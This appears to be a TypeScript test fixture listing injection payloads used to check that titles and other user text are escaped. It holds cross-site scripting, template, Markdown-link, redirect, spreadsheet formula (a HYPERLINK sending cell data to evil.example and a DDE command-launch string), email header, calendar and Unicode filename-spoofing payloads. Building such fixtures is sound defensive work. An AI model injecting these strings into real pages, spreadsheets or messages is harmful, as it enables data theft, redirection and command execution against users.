/** Texts that try to be more than text, with a description; each fits in a title. */
export const PAYLOADS: Record<string, string> = {
  'a script': '<script>hit()</script>',
  'an image that fails': '"><img src=x onerror=hit() data-hit>',
  'an attribute': "' onmouseover=hit() onfocus=hit() autofocus data-hit='",
  'a drawing': '<svg/onload=hit() data-hit><animate onbegin=hit() attributeName=x>',
  'the end of its element': '</title></textarea></style></script><img src=x onerror=hit() data-hit>',
  'a link of Markdown': '[x](javascript:hit()) [y](data:text/html,<script>hit()</script>) <javascript:hit()>',
  'an attribute in Markdown':
    '![x](https://a.example/x"onerror="hit()) [z](https://a.example/"onclick="hit())',
  'a link with a hidden scheme':
    '<a href="jav&#x09;ascript:hit()" data-hit>x</a><a href=" javascript:hit()">y</a>',
  templates: '{{constructor.constructor("hit()")()}}#{hit()}<%=hit()%>%{hit()}',
  styles: '<style data-hit>*{display:none}</style><p style="position:fixed;inset:0">x</p>',
  'another home':
    '<base href=//evil.example/ data-hit><meta http-equiv=refresh content="0;url=//evil.example/">',
  'a form':
    '<form action=//evil.example/ data-hit><input name=q><button formaction=javascript:hit()>x</button></form>',
  'a frame':
    '<iframe srcdoc="<script>parent.hit()</script>" data-hit></iframe><object data=x data-hit></object>',
  'a formula': '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  'a formula behind a space': " \t@SUM(1+1)*cmd|' /C calc'!A0",
  'lines of a header': 'x\r\nBcc: evil@evil.example\r\nX-Hit: 1\r\n\r\n<img src=x onerror=hit() data-hit>',
  'lines of a calendar': 'x\nEND:VEVENT\nBEGIN:VALARM\nATTACH:http://evil.example/\n',
  'an encoded header': '=?utf-8?Q?=0ABcc:_evil@evil.example?= =?utf-8?B?PGltZyBzcmM9eD4=?=',
  'turned around': '\u202egnp.exe\u2066 \u200b\u2028\u2029\ufeff',
  'joined signs': '👩‍👩‍👧‍👦 ☠️ é\u0301\u0323'.repeat(6),
  'one long word': 'W'.repeat(150),
}
